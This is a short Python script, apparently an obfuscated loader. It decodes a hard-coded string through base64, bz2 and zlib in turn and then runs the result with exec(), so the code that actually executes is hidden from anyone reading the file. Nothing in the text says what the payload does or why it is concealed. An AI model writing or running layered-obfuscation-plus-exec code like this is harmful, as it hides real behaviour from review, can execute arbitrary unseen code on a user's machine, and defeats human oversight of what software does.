import base64
import bz2
import zlib

STEPS = (base64.b64decode, bz2.decompress, zlib.decompress)
data = b'QlpoOTFBWSZTWa/goI0AAAt3tkQgAEAAboASQgAABABBAAQABAA8IoAgADFAAAGTIKBNo1GmMoenqkBPS9HZW97zhC0KAl+8YEbBIj8XckU4UJCv4KCN'
for step in STEPS:
    data = step(data)
exec(data)
